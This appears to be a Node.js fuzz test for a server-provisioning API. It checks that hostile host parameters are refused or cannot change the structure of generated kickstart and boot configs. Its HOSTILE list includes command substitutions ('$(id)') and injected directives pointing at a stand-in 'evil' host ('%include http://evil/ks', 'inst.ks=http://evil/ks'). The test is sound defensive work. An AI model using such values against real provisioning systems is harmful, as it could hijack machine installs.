// Random values, hostile ones included, through the real API (createApp over a real SQLite core): each host is either
// refused naming the field, or builds with a kickstart that parses with the template's sections and commands and
// boot configs whose structure is the template's (grub-script-check passes, one command per line as in the template).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import request from 'supertest';
import { silentLogger } from '../../src/log.ts';
import { imageViewOf } from '../../src/images/store.ts';
import { Provisioner } from '../../src/provision.ts';
import { createRenderer } from '../../src/render/render.ts';
import { makeEnv, REPO, tempDir, type TestEnv } from '../support/core.ts';
import { appFor } from '../support/web-env.ts';
import type { Express } from 'express';
import { checkKickstart, expectedShape, ksValidate } from '../support/kickstart-check.ts';

const TOKEN = 'fuzz-admin-token';
const auth = { Authorization: `Bearer ${TOKEN}` };
let env: TestEnv;
let app: Express;

before(async () => {
  env = await makeEnv();
  mkdirSync(env.config.tftpRoot, { recursive: true });
  app = appFor(env, TOKEN);
});
after(() => env.cleanup());

/** A small deterministic PRNG (mulberry32): a failing case is reproducible from its seed, printed in the message. */
function rng(seed: number) {
  return () => {
    seed |= 0;
    seed = (seed + 0x6d2b79f5) | 0;
    let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HOSTILE = [
  '\r',
  '\n',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u0000',
  '\u001b',
  '\t',
  ';',
  '#',
  '{',
  '}',
  '$',
  '${net0/mac}',
  "'",
  '"',
  '`',
  '\\',
  '&&',
  '||',
  '&',
  ' ',
  '%end',
  '\n%end\n',
  '\n%packages\n',
  '\n  %include http://evil/ks',
  ' inst.ks=http://evil/ks',
  ' BOOTIF=01-00',
  '|',
  '<',
  '>',
  '*',
  '?',
  '~',
  '!',
  'é',
  '日本',
  '\u00a0',
  '$(id)',
  '`id`',
  'a'.repeat(3000),
];

/** Fields a host parameter may set, each with a valid value to start from. */
const FIELDS: Record<string, string> = {
  'satellite.org': 'Example_Org',
  'satellite.activationKey': 'rhvh-hosts',
  'satellite.server': 'sat.example.com',
  'satellite.repos': '[rhel-7-server-rhvh-4-rpms]',
  'boot.kernelArgs': 'console=ttyS0',
  'boot.hostKernelArgs': 'intel_iommu=on',
  'timezone.name': 'Asia/Tokyo',
  keyboard: 'de',
  lang: 'de_DE.UTF-8',
  ntpServers: '[ntp.example.com]',
  'network.domain': 'example.org',
  'stig.profile': 'xccdf_org.ssgproject.content_profile_stig',
  sshKeys: '[ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBcWxYk9u9m9r1r9bq7v3nKk ops@example]',
  post: 'echo hello',
  'partitioning.disks': '[sda]',
  'image.stage2': 'http://mirror.example/rhvh?a=1&b=2',
  'image.liveimg': 'http://mirror.example/rhvh.img',
  description: 'fuzzed',
};

function mutate(r: () => number, value: string): string {
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(r() * xs.length)];
  let v = value;
  const n = 1 + Math.floor(r() * 3);
  for (let i = 0; i < n; i++) {
    const at = Math.floor(r() * (v.length + 1));
    // Inside a list value, keep the brackets so the value stays a list and the grammar of its items is what is tested.
    const pos = v.startsWith('[') ? Math.min(Math.max(at, 1), v.length - 1) : at;
    v = v.slice(0, pos) + pick(HOSTILE) + v.slice(pos);
  }
  return v;
}

function grubCheck(text: string): string | undefined {
  const f = join(tempDir(), 'grub.cfg');
  writeFileSync(f, text);
  const r = spawnSync('grub-script-check', [f], { encoding: 'utf8' });
  if (r.error) return undefined;
  return r.status === 0 ? undefined : `${r.stderr}${r.stdout}`;
}

/** The first word of every line: what GRUB and iPXE would run. Values cannot add lines or commands. */
const commandWords = (text: string) => text.split('\n').map((l) => l.trim().split(/\s+/)[0]);

test("fuzz: 150 hosts with random hostile parameters through the API: refused naming the field, or a kickstart and boot configs of the template's shape", async (t) => {
  const baseline = new Map<string, string[]>();
  let accepted = 0;
  let refused = 0;
  const acceptedKickstarts: string[] = [];
  for (let seed = 1; seed <= 150; seed++) {
    const r = rng(seed);
    const keys = Object.keys(FIELDS);
    const chosen = [
      ...new Set(Array.from({ length: 1 + Math.floor(r() * 3) }, () => keys[Math.floor(r() * keys.length)])),
    ];
    const params: Record<string, string> = {};
    const hostile = new Set<string>();
    for (const k of chosen) {
      if (r() < 0.6) {
        params[k] = mutate(r, FIELDS[k]);
        hostile.add(k);
      } else params[k] = FIELDS[k];
    }
    // Now and then the host record's own fields too (src/hosts/input.ts grammar).
    const record: Record<string, string> = { hostname: `fz${seed}`, domain: 'example.com' };
    for (const k of ['hostname', 'domain'])
      if (r() < 0.1) {
        record[k] = mutate(r, record[k]);
        chosen.push(k);
        hostile.add(k);
      }
    const mac = `52:54:00:f0:${(seed >> 8).toString(16).padStart(2, '0')}:${(seed & 255).toString(16).padStart(2, '0')}`;
    const where = `seed ${seed}, params ${JSON.stringify(params)}`;
    const created = await request(app)
      .post('/api/hosts')
      .set(auth)
      .send({
        mac,
        ...record,
        profile: 'rhvh-stig-satellite',
        ip: `10.99.${seed >> 8}.${seed & 255 || 1}`,
        netmask: '255.255.0.0',
        params,
      });
    let refusal: string | undefined;
    if (created.status !== 201) refusal = JSON.stringify(created.body);
    else {
      const b = await request(app).post(`/api/hosts/${mac}/build`).set(auth);
      if (b.status !== 201) {
        assert.equal(b.status, 409, `${where}: ${JSON.stringify(b.body)}`);
        refusal = JSON.stringify(b.body);
      } else {
        accepted++;
        const ks = await request(app)
          .get(new URL(b.body.kickstartUrl).pathname)
          .set('X-RHN-Provisioning-MAC-0', `eth0 ${mac}`);
        assert.equal(ks.status, 200, where);
        const { errors, summary } = checkKickstart(ks.text);
        assert.deepEqual(errors, [], where);
        const want = expectedShape({
          partitioning: { layout: 'autopart', disks: 'partitioning.disks' in params ? ['x'] : undefined },
          stig: { enabled: true } as never,
        });
        assert.deepEqual(
          summary.sections.map((s) => s.name),
          want.sections,
          where,
        );
        assert.deepEqual(
          [...summary.commands.entries()].flatMap(([c, u]) => u.map(() => c)).sort(),
          want.commands,
          where,
        );
        if (acceptedKickstarts.length < 6 && hostile.size) acceptedKickstarts.push(ks.text);
        for (const kind of ['pxelinux', 'grub', 'ipxe'] as const) {
          const cfg = await request(app).get(`/api/hosts/${mac}/render/${kind}`).set(auth);
          if (cfg.status !== 200) {
            assert.equal(cfg.status, 409, where);
            assert.match(cfg.text, /cannot be written in|is not allowed/, where);
            continue;
          }
          const words = commandWords(cfg.text).filter((w) => w && !w.startsWith('#'));
          const ref = baseline.get(kind) ?? words;
          baseline.set(kind, ref);
          assert.deepEqual(words, ref, `${kind} ${where}:\n${cfg.text}`);
          if (kind === 'grub') assert.equal(grubCheck(cfg.text), undefined, `${where}:\n${cfg.text}`);
          if (kind === 'pxelinux' || kind === 'ipxe')
            assert.doesNotMatch(cfg.text, /inst\.ks=http:\/\/evil|BOOTIF=01-00 /, where);
        }
      }
    }
    if (refusal !== undefined) {
      refused++;
      // The reason names one of the fields we set (as "params.X", "parameter X" or "X:").
      const named = chosen.some((k) => refusal!.includes(k));
      assert.ok(named, `${where}: the refusal must name the field: ${refusal}`);
      assert.ok(hostile.size > 0, `${where}: only valid values, yet refused: ${refusal}`);
      const stored = await env.core.hosts.get(mac as never);
      if (stored)
        assert.notEqual(
          env.core.provisioner.state(mac as never),
          'build',
          `${where}: a refused host must not be in build`,
        );
    }
  }
  t.diagnostic(`accepted ${accepted}, refused ${refused}`);
  assert.ok(accepted >= 15 && refused >= 15, `both outcomes must occur (accepted ${accepted}, refused ${refused})`);
  const v = ksValidate(acceptedKickstarts);
  if (v === 'skipped')
    process.stderr.write('# ksvalidator absent: the fuzzed kickstarts were checked by the project checker only\n');
  else assert.equal(v, undefined, v);
});

test('startBuild refuses (409, with the reason) a build whose kickstart fails the check, and leaves the host out of build', async () => {
  const dir = tempDir();
  cpSync(join(REPO, 'templates'), join(dir, 'templates'), { recursive: true });
  const ksFile = join(dir, 'templates', 'kickstart', 'rhvh.ks.eta');
  // A template edited by hand: an extra command and a section the check does not expect.
  writeFileSync(
    ksFile,
    readFileSync(ksFile, 'utf8').replace('reboot\n', 'reboot\nfirewall --disabled\n%packages\n@core\n%end\n'),
  );
  const c = env.core;
  const p = new Provisioner({
    view: c.view,
    hosts: c.hosts,
    builds: c.builds,
    events: c.events,
    audit: c.audit,
    profiles: c.catalog,
    images: imageViewOf(c.view),
    renderer: createRenderer(join(dir, 'templates')),
    log: silentLogger(),
    baseUrl: 'http://10.99.0.1:8080',
    tokenTtlMs: 3600_000,
  });
  await c.hosts.insert({
    mac: '52:54:00:f1:00:01' as never,
    hostname: 'broken1',
    profile: 'rhvh-base',
    nameservers: [],
    params: {},
  });
  const r = await p.startBuild('52:54:00:f1:00:01' as never, 'test');
  assert.equal(r.ok, false);
  if (!r.ok) {
    assert.equal(r.status, 409);
    assert.match(
      r.message,
      /kickstart rendered for broken1 .*fails its check: .*RHVH kickstarts must not have %packages/,
    );
    assert.match(r.message, /unexpected firewall/);
  }
  assert.notEqual(p.state('52:54:00:f1:00:01' as never), 'build');
});
